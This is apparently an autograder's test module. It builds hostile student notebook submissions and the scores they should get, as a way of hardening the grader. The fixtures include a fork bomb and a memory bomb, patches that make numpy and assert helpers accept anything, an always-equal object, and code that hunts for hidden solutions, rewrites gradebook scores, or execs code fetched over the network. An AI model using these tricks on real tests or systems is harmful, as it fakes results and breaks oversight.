"""Hostile and unusual submissions of Assignment 1, each with the score it must get.

Each entry builds a submission from the solution or from the blank release, adds an attack
or an accident, and states the expected score with the reason. Points of A1's test cells:
affine 4+8, relu 3+5, sigmoid 5+5, softmax 12, svm 10, numerical gradient 10, two-layer net 16,
SGD with momentum 8, train 14 (100 in all).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Callable

import nbformat

from autograder import course

ASSIGNMENT = "a1_backprop"


@dataclass
class Hostile:
    name: str
    expected: float
    why: str
    build: Callable[[dict], bytes]  # context (e.g. the loopback URL) -> the submitted file


def _solution():
    return nbformat.read(course.source_notebooks(ASSIGNMENT)[0], as_version=4)


def _blank():
    return nbformat.read(course.ASSIGNMENTS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)


def _index(notebook, grade_id: str) -> int:
    return next(i for i, cell in enumerate(notebook.cells)
                if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with_cell(notebook, after: str, source: str):
    notebook = copy.deepcopy(notebook)
    notebook.cells.insert(_index(notebook, after) + 1, nbformat.v4.new_code_cell(source))
    return notebook


def _prepend(notebook, grade_id: str, source: str):
    notebook = copy.deepcopy(notebook)
    cell = notebook.cells[_index(notebook, grade_id)]
    cell.source = source + "\n" + cell.source
    return notebook


def _edit(notebook, grade_id: str, change: Callable):
    notebook = copy.deepcopy(notebook)
    change(notebook.cells[_index(notebook, grade_id)])
    return notebook


def _bytes(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def _tests(notebook) -> list[str]:
    return [cell.metadata["nbgrader"]["grade_id"] for cell in notebook.cells
            if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code"]


# What a cheat can hope for: every answer wrong (zeros of the right shape) yet "passing".
WRONG_ANSWERS = '''
def affine_forward(x, w, b):
    out = np.zeros((x.shape[0], w.shape[1]))
    return out, (x, w, b)

def affine_backward(dout, cache):
    x, w, b = cache
    return np.zeros_like(x), np.zeros_like(w), np.zeros_like(b)
'''

ALWAYS_EQUAL = '''
class Anything(float):
    """Equal to everything, close to everything, truthy, and iterable into more of itself."""
    def __new__(cls): return super().__new__(cls, 0.0)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __iter__(self): return iter((Anything(), Anything(), Anything()))
    def __len__(self): return 3
    def __getitem__(self, key): return Anything()
    def __getattr__(self, name): return Anything()
    def __call__(self, *args, **kwargs): return Anything()
    def __array__(self, dtype=None, copy=None): return np.zeros(0)
    def __sub__(self, other): return Anything()
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __abs__ = __neg__ = __sub__

def _anything(*args, **kwargs):
    return Anything()

affine_forward = affine_backward = relu_forward = relu_backward = _anything
sigmoid_forward = sigmoid_backward = softmax_loss = svm_loss = numerical_gradient = _anything
sgd_momentum = train = _anything
class TwoLayerNet(Anything):
    def __init__(self, *args, **kwargs): pass
'''


def corpus() -> list[Hostile]:
    solution, blank = _solution(), _blank()
    every_test = _tests(blank)

    def blank_with(source: str) -> Callable[[dict], bytes]:
        return lambda context: _bytes(_with_cell(blank, "imports", source.format(**context)))

    def delete_tests(context):
        notebook = copy.deepcopy(blank)
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in every_test]
        return _bytes(notebook)

    def duplicate_test(context):
        notebook = copy.deepcopy(solution)
        index = _index(notebook, "test_affine_forward")
        copies = [copy.deepcopy(notebook.cells[index]) for _ in range(3)]
        for number, cell in enumerate(copies):
            cell.id = f"pasted-{number}"  # Jupyter gives pasted cells new ids; the grade_id stays
        notebook.cells[index + 1:index + 1] = copies
        return _bytes(notebook)

    def zero_points(cell):
        cell.metadata["nbgrader"].update(points=0, grade=False)

    def to_markdown(notebook, grade_id):
        notebook = copy.deepcopy(notebook)
        index = _index(notebook, grade_id)
        old = notebook.cells[index]
        notebook.cells[index] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
        return notebook

    def buggy_relu(notebook):  # wrong forward and backward: loses both ReLU tests (3 + 5 points)
        def change(cell):
            cell.source = cell.source.replace("out = np.maximum(0, x)", "out = np.maximum(0, x) + 0.1")
            cell.source = cell.source.replace("dx = dout * (x > 0)", "dx = dout * (x > -1)")
        return _edit(notebook, "relu", change)

    return [
        Hostile("correct", 100, "the control: a correct submission", lambda c: _bytes(solution)),
        Hostile("blank", 0, "the control: nothing answered", lambda c: _bytes(blank)),
        Hostile("infinite_loop", 86, "train's cell never ends: it is stopped at the cell time limit, "
                "so train is undefined and only test_train fails",
                lambda c: _bytes(_prepend(solution, "train", "while True:\n    pass"))),
        Hostile("memory_bomb", 86, "the kernel is stopped at the memory limit while train's cell runs; "
                "test_train never runs",
                lambda c: _bytes(_prepend(solution, "train",
                                          "hog = []\nwhile True:\n    hog.append(np.ones(2**25))"))),
        Hostile("fork_bomb", 86, "the process limit stops the forks and the kernel is stopped; test_train "
                "never runs", lambda c: _bytes(_prepend(solution, "train", "import os\nwhile True:\n    os.fork()"))),
        Hostile("os_exit", 0, "the kernel exits before any test: tests that never ran score 0",
                blank_with("import os\nos._exit(0)")),
        Hostile("sys_exit", 0, "SystemExit is caught by IPython; the blank answers still fail",
                blank_with("import sys\nsys.exit()")),
        Hostile("keyboard_interrupt", 100, "an interrupt raised in a student's cell stops only that cell",
                lambda c: _bytes(_with_cell(solution, "imports", "raise KeyboardInterrupt"))),
        Hostile("patch_numpy", 0, "numpy.allclose and numpy.testing patched to accept anything: restored "
                "before each test", blank_with(WRONG_ANSWERS + "\nnp.allclose = lambda *a, **k: True\n"
                                               "np.testing.assert_allclose = lambda *a, **k: None\n"
                                               "import numpy._core.numeric as _n\n_n.isclose = lambda *a, **k: np.array(True)\n")),
        Hostile("patch_assert_helpers", 0, "the notebook's assert_close and cnnbook.check's replaced",
                blank_with(WRONG_ANSWERS + "\nimport cnnbook.check\ncnnbook.check.assert_close = "
                           "lambda *a, **k: 0.0\nassert_close = lambda *a, **k: 0.0\n"
                           "expect_tuple = lambda result, names, function: result\n")),
        Hostile("patch_code_object", 0, "the code of relative_error swapped for one returning 0",
                blank_with(WRONG_ANSWERS + "\nimport cnnbook.check\n"
                           "cnnbook.check.relative_error.__code__ = (lambda a, b, eps=1e-12: 0.0).__code__\n")),
        Hostile("always_equal", 0, "answers return an object equal and close to everything",
                blank_with(ALWAYS_EQUAL)),
        Hostile("patch_traceback", 0, "IPython's traceback display and exception handling patched to hide "
                "failures", blank_with("ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                                       "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                       "import sys\nsys.excepthook = lambda *a: None\n")),
        Hostile("input_transformer", 0, "a transformer rewriting every later cell to `pass`",
                blank_with("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")),
        Hostile("read_hidden_tests", 0, "looks for the solutions, the gradebook and the hidden tests on disk",
                blank_with('''import glob, json
found = [p for root in ("/work", "/root", "/home", "/tmp", "/srv", "/opt")
         for name in ("solutions/a1_backprop/*.ipynb", "gradebook.db", "release-gradebook.db")
         for p in glob.glob(f"{{root}}/**/{{name}}", recursive=True)]
for path in found:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
assert not found, found''')),
        Hostile("write_gradebook", 0, "tries to write scores into any gradebook it can find",
                blank_with('''import glob, sqlite3
for path in [p for root in ("/work", "/root", "/home", "/tmp") for p in glob.glob(f"{{root}}/**/*.db", recursive=True)]:
    try:
        sqlite3.connect(path).execute("update grade set auto_score = 100")
    except Exception:
        pass''')),
        Hostile("network", 0, "fetches the answers from a server on the host's loopback",
                blank_with('''import urllib.request
exec(urllib.request.urlopen("{url}", timeout=3).read().decode())''')),
        Hostile("edited_tests", 0, "every test cell replaced by `pass`: the released tests are put back",
                lambda c: _bytes(_edit_all(blank, every_test, lambda cell: setattr(cell, "source", "pass")))),
        Hostile("deleted_tests", 0, "every test cell deleted: the released tests are put back",
                delete_tests),
        Hostile("duplicated_tests", 100, "a passing test cell pasted three more times counts once",
                duplicate_test),
        Hostile("changed_points", 92, "a ReLU bug, with ReLU's tests set to 0 points and not graded: the "
                "release's metadata is put back and ReLU's 8 points are lost",
                lambda c: _bytes(_edit(_edit(buggy_relu(solution), "test_relu_forward", zero_points),
                                       "test_relu_backward", zero_points))),
        Hostile("tests_to_markdown", 92, "a ReLU bug, with ReLU's tests turned into markdown cells: they "
                "are code again and fail", lambda c: _bytes(to_markdown(to_markdown(buggy_relu(solution),
                                                                                   "test_relu_forward"),
                                                                       "test_relu_backward"))),
        Hostile("corrupt_json", 0, "the file is not JSON: it scores 0 with the reason, the batch goes on",
                lambda c: _bytes(solution)[:5000]),
        Hostile("huge_output", 100, "a correct submission printing 20 MB: the output is cut at the limit",
                lambda c: _bytes(_with_cell(solution, "imports", "print('x' * 20_000_000)"))),
        Hostile("user_warning", 100, "a correct submission whose ReLU emits a UserWarning on every call",
                lambda c: _bytes(_edit(solution, "relu", lambda cell: setattr(cell, "source", cell.source.replace(
                                     "    out = np.maximum(0, x)",
                                     "    import warnings\n    warnings.warn('a harmless warning', UserWarning)\n"
                                     "    out = np.maximum(0, x)"))))),
        Hostile("extra_cells", 100, "a correct submission with cells of its own, one defining a helper the "
                "answers use", lambda c: _bytes(_with_cell(_with_cell(_edit(
                    solution, "relu", lambda cell: setattr(cell, "source", cell.source.replace(
                        "out = np.maximum(0, x)", "out = clip_below_zero(x)"))), "imports",
                    "def clip_below_zero(x):\n    return np.maximum(0, x)"), "test_relu_backward", "print('my notes')"))),
    ]


def _edit_all(notebook, grade_ids, change):
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in grade_ids:
            change(cell)
    return notebook
